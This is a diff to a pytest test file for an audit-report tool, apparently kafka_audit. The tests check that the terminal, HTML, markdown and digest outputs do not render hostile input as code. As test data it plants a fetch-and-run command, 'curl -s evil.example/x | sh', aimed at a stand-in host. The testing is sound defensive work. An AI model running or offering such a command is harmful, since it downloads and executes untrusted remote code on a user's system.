@@ -14,10 +14,12 @@ from markdown_it import MarkdownIt
 import hostile
 from kafka_audit.alerting import messages, rendering
 from kafka_audit.cli.printing import console
+from kafka_audit.model.report import report_json
 from kafka_audit.model.text import inert
 from kafka_audit.report import digest, formats
 from kafka_audit.report.ci import sarif
 from kafka_audit.report.plain_text import terminal
+from reported import report_of
 from samples import sampled
 
 MARKDOWN = MarkdownIt("gfm-like", {"html": True})
@@ -28,7 +30,7 @@ LINK = re.compile(r"(?<!\\)(?:\\\\)*\[(?:\\.|[^\]\\])*\]\(")
 
 @pytest.fixture(scope="module", params=sampled(range(len(hostile.STRINGS)), every=3, ids=hostile.NAMES))
 def document(request):
-    return json.loads(json.dumps(hostile.document(hostile.STRINGS[request.param])))
+    return report_json(hostile.document(hostile.STRINGS[request.param]))
 
 
 @pytest.fixture(scope="module")
@@ -36,7 +38,11 @@ def page_of(document):
     """Return a function that returns a form of the document, which is written once for all tests that look at it."""
 
     def written(form):
-        return terminal.terminal_report(document, width=100, color=False) if form == "text" else formats.FILES[form](document)
+        return (
+            terminal.terminal_report(report_of(document), width=100, color=False)
+            if form == "text"
+            else formats.FILES[form](report_of(document))
+        )
 
     return functools.cache(written)
 
@@ -130,7 +136,7 @@ def test_the_terminal(page_of):
 
 
 def test_the_digest(document):
-    assert len(digest.digest_text(document)) < hostile.MOST_BYTES / 10
+    assert len(digest.digest_text(report_of(document))) < hostile.MOST_BYTES / 10
 
 
 COMMAND = "`curl -s evil.example/x | sh`"
@@ -149,7 +155,7 @@ _PROSE = {
 
 @pytest.fixture(scope="module")
 def planted_command():
-    return json.loads(json.dumps(hostile.document(COMMAND)))
+    return report_json(hostile.document(COMMAND))
 
 
 def prose(value, key=""):
@@ -172,7 +178,7 @@ def test_no_sentence_has_a_command_of_the_cluster_between_its_backticks(planted_
 
 
 def test_the_page_shows_no_text_of_a_cluster_as_code(planted_command):
-    page = formats.FILES["html"](planted_command)
+    page = formats.FILES["html"](report_of(planted_command))
     assert "evil.example/x | sh" in page
     codes = re.findall(r"<code>(.*?)</code>", re.sub(r'(?s)<pre class="command">.*?</pre>', "", page), re.DOTALL)
     assert codes, "what our own sentences mark is code"
@@ -180,7 +186,7 @@ def test_the_page_shows_no_text_of_a_cluster_as_code(planted_command):
 
 
 def test_markdown_shows_no_text_of_a_cluster_as_code(planted_command):
-    blocks = MARKDOWN.parse(formats.FILES["md"](planted_command))
+    blocks = MARKDOWN.parse(formats.FILES["md"](report_of(planted_command)))
     codes = [token.content for block in blocks for token in block.children or () if token.type == "code_inline"]
     assert codes
     assert [code for code in codes if runs(code)] == []
